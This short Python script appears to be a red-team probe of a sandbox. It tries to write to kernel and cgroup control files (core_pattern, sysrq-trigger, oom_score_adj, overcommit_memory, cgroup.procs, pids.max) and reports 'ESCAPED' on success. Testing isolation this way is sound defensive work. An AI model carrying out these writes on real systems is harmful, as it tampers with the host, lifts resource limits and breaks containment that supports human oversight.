# attack: files of the operating system's kernel are written: /proc/sys, cgroups, the out-of-memory score, core patterns.
# target: heaviest-test
# destructive
# %% heaviest
import glob

heaviest = "tree-000"
for path, text in [
    ("/proc/sys/kernel/core_pattern", "core"),
    ("/proc/sys/kernel/hostname", "redteam"),
    ("/proc/sysrq-trigger", "h"),
    ("/proc/self/oom_score_adj", "-1000"),
    ("/proc/sys/vm/overcommit_memory", "1"),
    *[(path, "0") for path in glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True)],
    *[(path, "max") for path in glob.glob("/sys/fs/cgroup/**/pids.max", recursive=True)],
]:
    try:
        with open(path, "w") as file:
            file.write(text)
        print("ESCAPED: wrote", path)
    except OSError:
        pass
